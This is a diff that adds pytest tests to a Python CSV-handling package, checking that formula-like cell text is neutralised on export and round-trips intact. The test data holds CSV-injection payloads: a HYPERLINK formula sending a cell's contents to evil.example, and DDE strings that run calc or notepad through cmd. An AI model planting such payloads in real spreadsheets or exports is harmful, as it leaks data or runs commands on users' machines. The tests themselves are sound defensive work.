@@ -708,3 +708,65 @@ def test_unexpected_error_is_one_paragraph_and_a_log(monkeypatch, capsys, tmp_pa
     assert "No space left on device" in err
     logs = list(tmp_path.glob("bnkpi-error-*.log"))
     assert len(logs) == 1 and "Traceback" in logs[0].read_text(encoding="utf-8")
+
+
+# --------------------------------------------------------------------------------------------------------------
+# CSV injection: text from the data that a spreadsheet would run as a formula is written inert (OWASP rule).
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"Nguồn chính thức")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _live_cells(path: Path) -> list[str]:
+    """Cells a spreadsheet would evaluate: starting with a formula character and not just a number."""
+    import csv
+    import re
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    return [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", c)]
+
+
+def test_formula_payloads_are_inert_in_assessment_and_sources(raw_copy, tmp_path):
+    from bnkpi_utils import clean, targets
+    from bnkpi_utils.io import read_processed, write_table
+    from bnkpi_utils.validate import validate_raw
+
+    kh16 = _find(raw_copy, "targets.csv", target_id="KH20-16")
+    kh11 = _find(raw_copy, "targets.csv", target_id="KH20-11")
+    _edit(raw_copy, "targets.csv", kh16, name_en=PAYLOADS[0], agency=PAYLOADS[1], document=PAYLOADS[2])
+    _edit(raw_copy, "targets.csv", kh11, name_vi=PAYLOADS[3], name_en="\t=1+1")
+    _edit(raw_copy, "kpi_actuals.csv", 20, source=PAYLOADS[0])
+    validated = validate_raw(raw_copy)
+    assert validated.ok, validated.problems[:3]
+    cleaned = clean.clean_all(validated)
+    sources = write_table(clean.source_summary(validated), tmp_path / "data_sources.csv")
+    assessment = targets.assess(cleaned.tables["targets"], cleaned.tables["kpi_actuals"], cleaned.tables["macro"])
+    written = write_table(assessment, tmp_path / "targets_assessment.csv")
+
+    for path in (sources, written):
+        assert _live_cells(path) == [], path.name
+    text = written.read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in text and "'@SUM(" in text and "'+cmd|" in text and "'-2+3+cmd" in text
+    # real negative numbers stay numbers, and reading the table back gives the text as it was
+    back = read_processed(written)
+    row = back[back["target_id"] == "KH20-16"].iloc[0]
+    assert (row["name_en"], row["agency"], row["document"]) == tuple(PAYLOADS[:3])
+    assert back[back["target_id"] == "KH20-11"]["name_vi"].iloc[0] == PAYLOADS[3]
+
+
+def test_neutralising_keeps_numbers_and_round_trips(tmp_path):
+    import pandas as pd
+
+    from bnkpi_utils.io import read_processed, write_table
+
+    df = pd.DataFrame({"value": [-17.5, 3.0, -0.25], "note": ["-17", "=1+1", "'=already quoted"],
+                       "source": ["+84 222 3822 xxx", "@handle", "plain"]})
+    path = write_table(df, tmp_path / "t.csv")
+    assert path.read_text(encoding="utf-8").splitlines() == [
+        "value,note,source", "-17.5,-17,'+84 222 3822 xxx", "3.0,'=1+1,'@handle", "-0.25,''=already quoted,plain"]
+    back = read_processed(path)
+    assert back["value"].tolist() == [-17.5, 3.0, -0.25]
+    assert back["note"].tolist() == ["-17", "=1+1", "'=already quoted"]
+    assert back["source"].tolist() == df["source"].tolist()
